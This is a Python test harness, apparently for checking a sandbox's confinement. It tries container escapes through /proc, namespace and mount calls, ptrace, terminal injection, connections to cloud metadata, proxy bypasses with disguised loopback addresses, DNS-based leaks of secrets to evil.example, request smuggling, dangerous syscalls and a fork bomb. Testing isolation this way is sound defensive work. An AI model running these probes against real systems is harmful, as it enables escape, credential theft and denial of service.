# SPDX-License-Identifier: MIT
"""What a confined program may try. Run inside as `python3 -c THIS NAME ARGUMENT...`; each attack prints lines "TRY: RESULT".

RESULT begins with "got" when the attack has what it wanted, else it is the error. Only the standard library is used, and nothing that
would harm a machine where it succeeds.
"""
import ctypes
import errno
import fcntl
import glob
import mmap
import os
import socket
import sys
import termios
import time

libc = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWUSER = 0x20000, 0x10000000
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
# x86-64 and what all newer architectures share
NUMBERS = {'keyctl': 250, 'bpf': 321, 'perf_event_open': 298, 'userfaultfd': 323, 'io_uring_setup': 425, 'kexec_load': 246, 'init_module': 175,
           'finit_module': 313, 'add_key': 248, 'open_by_handle_at': 304, 'setns': 308, 'pivot_root': 155, 'fsopen': 430, 'open_tree': 428}


def attempt(what, call, *arguments):
    try:
        result = call(*arguments)
    except OSError as error:
        result = errno.errorcode.get(error.errno, str(error.errno))
    else:
        result = f'got {result!r:.200}'
    print(f'{what}: {result}', flush=True)


def system_call(number, *arguments):
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), '')
    return result


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), '')
    return result


def read(path):
    with open(path, 'rb') as file:
        return file.read(100)


def read_or_list(path):
    return os.listdir(path) if os.path.isdir(path) else read(path)


def write(path):
    os.close(os.open(path, os.O_WRONLY))
    return 'a descriptor to write'


def attack_read(*paths):
    for path in paths:
        attempt(path, read_or_list, path)


def attack_write(*paths):
    for path in paths:
        attempt(path, write, path)


def attack_roots(mark):
    """The host's files through the processes that can be seen."""
    for root in sorted(glob.glob('/proc/[0-9]*/root')) + ['/proc/self/root', '/proc/thread-self/root/../..', '/..']:
        attempt(root, read, root + mark)
    for cwd in sorted(glob.glob('/proc/[0-9]*/cwd')):
        attempt(cwd, read, cwd + '/../' + os.path.basename(mark))


def attack_descriptors(name):
    """A process that serves the view holds the workspace open; is it below some descriptor?"""
    found = glob.glob('/proc/[0-9]*/fd/*') + glob.glob('/proc/[0-9]*/task/*/cwd')
    for directory in found:
        attempt(directory, read, directory + '/' + name)
    print(f'descriptors: {len(found)}')


def attack_find(name):
    """Is there any file of that name, or any socket?"""
    for directory, directories, files in os.walk('/'):
        if directory == '/':
            directories[:] = [d for d in directories if d not in ('proc', 'usr')]
        for entry in files:
            path = os.path.join(directory, entry)
            try:
                is_socket = (os.lstat(path).st_mode & 0o170000) == 0o140000
            except OSError:
                continue
            if entry == name or is_socket:
                print(f'{path}: got it')


def attack_mount():
    def new_namespace(flags, mount=False):
        pid = os.fork()
        if pid == 0:
            try:
                checked(libc.unshare(flags))
                if mount:
                    checked(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None))
                os._exit(0)
            except OSError as error:
                os._exit(error.errno)
        code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
        if code:
            raise OSError(code, '')
        return 'a mount' if mount else 'a namespace'

    attempt('mount', lambda: checked(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)))
    attempt('remount', lambda: checked(libc.mount(b'none', b'/usr', None, 32 | 4096, None)))
    attempt('unshare', new_namespace, NEWUSER | NEWNS)
    attempt('unshare and mount', new_namespace, NEWUSER | NEWNS, True)
    attempt('clone', lambda: system_call(56, NEWUSER | 17, 0, 0, 0, 0) or os._exit(0))


def attack_processes(pid):
    pid = int(pid)
    attempt('signal', lambda: os.kill(pid, 0))
    attempt('ptrace', lambda: checked(libc.ptrace(PTRACE_SEIZE, pid, 0, 0)) or libc.ptrace(PTRACE_DETACH, pid, 0, 0))
    attempt('environment', read, f'/proc/{pid}/environ')


def attack_terminal():
    for name, request in (('TIOCSTI', termios.TIOCSTI), ('TIOCSTI with garbage above', termios.TIOCSTI | 1 << 32)):
        attempt(name, lambda r=request: checked(libc.ioctl(0, ctypes.c_ulong(r), b'#')))


def attack_connect(port, abstract, *paths):
    def connect(family, address):
        with socket.socket(family) as s:
            s.settimeout(3)
            s.connect(address)
        return 'a connection'

    attempt('127.0.0.1', connect, socket.AF_INET, ('127.0.0.1', int(port)))
    attempt('169.254.169.254', connect, socket.AF_INET, ('169.254.169.254', 80))
    attempt('abstract', connect, socket.AF_UNIX, b'\0' + abstract.encode())
    for path in paths:
        attempt(path, connect, socket.AF_UNIX, path)


PROXY = ('127.0.0.1', 3128)
SPELLINGS = ('127.0.0.1', 'localhost', 'LOCALHOST.', '[::1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[::127.0.0.1]', '[64:ff9b::7f00:1]', '[2002:7f00:1::1]',
             '2130706433', '0x7f000001', '0177.0.0.1', '127.1', '0.0.0.0', '[::]', '127.0.0.1.', 'allowed.example@127.0.0.1', '127.0.0.1#@allowed.example')


def exchanged(data, then=b''):
    """What the proxy says to @data, and after a "200" what comes to @then. Without the server's mark it is an error."""
    with socket.create_connection(PROXY, 10) as s:
        s.sendall(data)
        answer = s.recv(65536)
        if then and answer[:12] == b'HTTP/1.1 200' or then and answer[:2] == b'\5\0':
            s.sendall(then)
            answer = b''
        while True:
            more = s.recv(65536)
            if not more:
                break
            answer += more
    if b'MARK' not in answer:
        raise OSError(errno.EACCES if b'403' in answer[:20] or b'400' in answer[:20] else errno.ECONNREFUSED, '')
    return 'the mark'


def socks(port, kind, address, then):
    with socket.create_connection(PROXY, 10) as s:
        s.sendall(b'\5\1\0')
        s.recv(2)
        s.sendall(b'\5\1\0' + bytes([kind]) + address + int(port).to_bytes(2, 'big'))
        reply = s.recv(10)
        if reply[1]:
            raise OSError(errno.EACCES if reply[1] == 2 else errno.ECONNREFUSED, '')
        s.sendall(then)
        answer = b''
        while more := s.recv(65536):
            answer += more
        if b'MARK' not in answer:
            raise OSError(errno.ECONNREFUSED, '')
        return 'the mark'


def attack_proxy(port):
    """The host's loopback by all spellings of its address, through the proxy."""
    def get(host):
        return f'GET / HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n'.encode()

    for host in SPELLINGS:
        attempt(f'http {host}', exchanged, f'GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n'.encode())
        attempt(f'connect {host}', exchanged, f'CONNECT {host}:{port} HTTP/1.1\r\n\r\n'.encode(), get(host))
    attempt('socks ipv4', socks, port, 1, bytes([127, 0, 0, 1]), get('x'))
    attempt('socks ipv6', socks, port, 4, bytes(15) + b'\1', get('x'))
    attempt('socks mapped', socks, port, 4, bytes(10) + b'\xff\xff\x7f\0\0\1', get('x'))
    for host in ('127.0.0.1', 'localhost', '2130706433'):
        attempt(f'socks {host}', socks, port, 3, bytes([len(host)]) + host.encode(), get('x'))
    for what, request in {
            'another Host': f'GET http://localhost:{port}/ HTTP/1.1\r\nHost: evil.example\r\n\r\n',
            'two Hosts': f'GET http://localhost:{port}/ HTTP/1.1\r\nHost: localhost:{port}\r\nHost: evil.example\r\n\r\n',
            'metadata': 'GET http://169.254.169.254/latest/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n',
            'metadata in IPv6': 'CONNECT [fd00:ec2::254]:80 HTTP/1.1\r\n\r\n',
            'port 22': 'CONNECT localhost:22 HTTP/1.1\r\n\r\n',
            'raw address': 'CONNECT 93.184.216.34:443 HTTP/1.1\r\n\r\n',
            'a name that tells': 'CONNECT the-secret-is-hunter2.evil.example:443 HTTP/1.1\r\n\r\n',
            'itself': f'CONNECT 127.0.0.1:{PROXY[1]} HTTP/1.1\r\n\r\n',
            'a file': 'GET file:///etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n',
            'old SOCKS': '\4\1\0\x50\x7f\0\0\1\0',
            'two requests': f'GET http://localhost:{port}/ HTTP/1.1\r\nHost: localhost:{port}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
    }.items():
        attempt(what, exchanged, request.encode())


def attack_beside_the_proxy(port, address):
    """Straight to the host, to its network and to name servers."""
    def connect(family, kind, where):
        with socket.socket(family, kind) as s:
            s.settimeout(3)
            s.connect(where)
            s.sendall(b'x')
            if kind == socket.SOCK_DGRAM:
                s.recv(100)
        return 'a connection'

    attempt('loopback', connect, socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', int(port)))
    attempt('address', connect, socket.AF_INET, socket.SOCK_STREAM, (address, int(port)))
    attempt('internet', connect, socket.AF_INET, socket.SOCK_STREAM, ('93.184.216.34', 80))
    attempt('metadata', connect, socket.AF_INET, socket.SOCK_STREAM, ('169.254.169.254', 80))
    for server in {line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')} | {'8.8.8.8', '127.0.0.53'}:
        attempt(f'name server {server}', connect, socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM, (server, 53))
    attempt('a name', socket.getaddrinfo, 'the-secret-is-hunter2.example.com', 80)
    attempt('name servers', lambda: open('/etc/resolv.conf').read() or checked(-1))


def attack_calls():
    zeros = (0, 0, 0, 0, 0)
    special = {'keyctl': (0, -3, 0, 0, 0), 'io_uring_setup': (1, ctypes.addressof(ctypes.create_string_buffer(256)), 0, 0, 0), 'userfaultfd': (1, 0, 0, 0, 0)}
    for name, number in NUMBERS.items():
        attempt(name, system_call, number, *special.get(name, zeros))
    for name, family, kind in (('raw', socket.AF_INET, socket.SOCK_RAW), ('raw6', socket.AF_INET6, socket.SOCK_RAW | socket.SOCK_CLOEXEC),
                               ('packet', socket.AF_PACKET, socket.SOCK_DGRAM), ('vsock', 40, socket.SOCK_STREAM), ('alg', 38, socket.SOCK_SEQPACKET)):
        attempt(name, lambda f=family, k=kind: socket.socket(f, k, 1 if 'raw' in name else 0).close())


def attack_streams():
    for fd in os.listdir('/proc/self/fd'):
        path = f'/proc/self/fd/{fd}'
        try:
            target = os.readlink(path)
        except OSError:
            continue
        if target.startswith('/') and not target.startswith(('/dev/', '/proc/')):
            print(f'{path}: got {target}')
    attempt('reopen 0', lambda: os.close(os.open('/proc/self/fd/0', os.O_WRONLY | os.O_TRUNC | os.O_NONBLOCK)) if os.path.isfile('/proc/self/fd/0') else checked(-1))


def attack_bombs(kind, amount):
    amount = int(amount)
    if kind == 'memory':
        held = [bytearray(b'x') * 1_000_000 for _ in range(amount)]
        time.sleep(1)
        print(f'memory: got {len(held)}')
    elif kind == 'shared':
        shared = mmap.mmap(-1, amount * 1_000_000)
        for at in range(0, len(shared), mmap.PAGESIZE):
            shared[at] = 1
        time.sleep(1)
        print(f'shared: got {amount}')
    elif kind == 'unmapped':
        fd = os.memfd_create('held')
        for _ in range(amount):
            os.write(fd, bytes(1_000_000))
        time.sleep(2)
        print(f'unmapped: got {amount}')
    elif kind == 'forks':
        for _ in range(amount):
            if os.fork() == 0:
                time.sleep(2)
                os._exit(0)
        time.sleep(1)
        print(f'forks: got {amount}')
    elif kind == 'bomb':
        while True:
            try:
                os.fork()
            except OSError:
                pass
    elif kind == 'cpu':
        end = time.process_time() + amount
        while time.process_time() < end:
            pass
        print(f'cpu: got {amount}')
    elif kind == 'output':
        block = b'y' * 999_999 + b'\n'
        for _ in range(amount):
            sys.stdout.buffer.write(block)
    elif kind == 'sleep':
        time.sleep(amount)
        print('sleep: got up')


def attack_fill():
    """What is held in memory has an end, and so has the view's system."""
    for directory in ('/', '/usr', '/etc', '/dev', '/run', '/proc', '/proc/sys'):
        attempt(directory, lambda d=directory: open(d + '/sbxfs-was-here', 'wb').close())


if __name__ == '__main__':
    globals()['attack_' + sys.argv[1]](*sys.argv[2:])
